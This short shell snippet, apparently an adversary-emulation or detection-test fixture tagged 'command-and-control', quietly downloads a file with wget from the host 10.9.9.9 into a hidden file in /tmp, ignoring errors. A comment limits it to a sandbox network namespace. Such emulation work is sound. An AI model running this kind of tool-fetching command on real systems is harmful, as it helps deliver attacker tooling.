# tactic: command-and-control
# download a tool into /tmp (the sandbox network namespace only)
wget -q -T 1 -t 1 -O /tmp/.t http://10.9.9.9/t 2>/dev/null; true
